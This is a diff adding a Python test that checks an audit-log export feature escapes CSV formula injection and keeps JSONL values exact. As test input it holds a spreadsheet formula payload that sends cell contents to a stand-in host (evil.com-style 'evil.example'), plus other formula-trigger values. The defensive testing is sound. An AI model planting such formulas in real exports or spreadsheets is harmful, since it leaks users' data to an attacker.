@@ -240,3 +240,54 @@ async def test_cli_export_of_one_request_and_a_text_search_recorded(rclient, rse
     assert "needle-2" not in json.dumps(read.body)
     rows = list(csv.DictReader(io.StringIO(searched.stdout, newline="")))
     assert rows and all(row["payload"] == "" for row in rows)  # found by their texts, shown without them
+
+
+#: Values a spreadsheet would run as formulas (OWASP "CSV injection"), and one that starts with the quote.
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
+
+
+def _unquoted(cell: str) -> str:
+    """A CSV cell's value: README says to drop the one leading quote a cell may have been given."""
+    return cell[1:] if cell.startswith("'") else cell
+
+
+async def test_csv_cells_are_never_formulas_and_jsonl_stays_exact(rclient, rsettings, rstore, rkeys):
+    model = "-1+2"
+    prompt = {"messages": [{"role": "user", "content": HYPERLINK}]}
+    rstore.append("request", "+inj-request", principal=HYPERLINK, team="@SUM(A1:A9)", model=model,
+                  policy_revision="\trev", body={"endpoint": "chat.completions", "key_id": "k",
+                                                 "decision": {"allow": False, "reasons": []}}, payload=prompt)
+    rstore.append("rejected", "\rinj-rejected", principal="'quoted", team="=1+1", model=model,
+                  policy_revision="-rev", body={"endpoint": "completions", "status": 422})
+    stored = [e for e in all_entries(rstore) if e.model == model]
+    assert len(stored) == 2
+
+    lines = (await _export(rclient, rkeys.auditor, model=model, format="jsonl", order="oldest",
+                           include_text="true")).text.splitlines()
+    documents = [json.loads(line) for line in lines]
+    assert [(d["principal"], d["team"], d["request_id"], d["policy_revision"]) for d in documents] == [
+        (HYPERLINK, "@SUM(A1:A9)", "+inj-request", "\trev"), ("'quoted", "=1+1", "\rinj-rejected", "-rev")]
+    assert documents[0]["payload"]["messages"] == prompt["messages"]  # JSONL keeps every value exactly
+
+    response = await _export(rclient, rkeys.auditor, model=model, format="csv", order="oldest", include_text="true")
+    cli = CliRunner().invoke(main, ["audit", "export", "--since", stored[0].created_at.date().isoformat(),
+                                    f"--model={model}", "--format", "csv", "--include-text"],
+                             env=_cli_env(rsettings), catch_exceptions=False)
+    assert cli.exit_code == 0, cli.output
+    for text in (response.text, cli.stdout):
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        assert rows[0] == list(CSV_COLUMNS) and len(rows) == 3
+        for row in rows[1:]:
+            assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], row
+        first, second = (dict(zip(CSV_COLUMNS, row)) for row in rows[1:])
+        assert (first["principal"], first["team"], first["model"], first["request_id"],
+                first["policy_revision"]) == ("'" + HYPERLINK, "'@SUM(A1:A9)", "'-1+2", "'+inj-request", "'\trev")
+        assert (second["principal"], second["team"], second["request_id"]) == ("''quoted", "'=1+1",
+                                                                                "'\rinj-rejected")
+        # The prompt is inside the payload's JSON text, which starts with "{": kept as is.
+        assert json.loads(first["payload"])["messages"] == prompt["messages"]
+        # Dropping the one leading quote gives back every value of the JSONL export.
+        for document, row in zip(documents, rows[1:]):
+            cells = {name: _unquoted(cell) for name, cell in zip(CSV_COLUMNS, row)}
+            for name in ("seq", "request_id", "kind", "principal", "team", "model", "policy_revision", "hash"):
+                assert cells[name] == str(document[name]), name
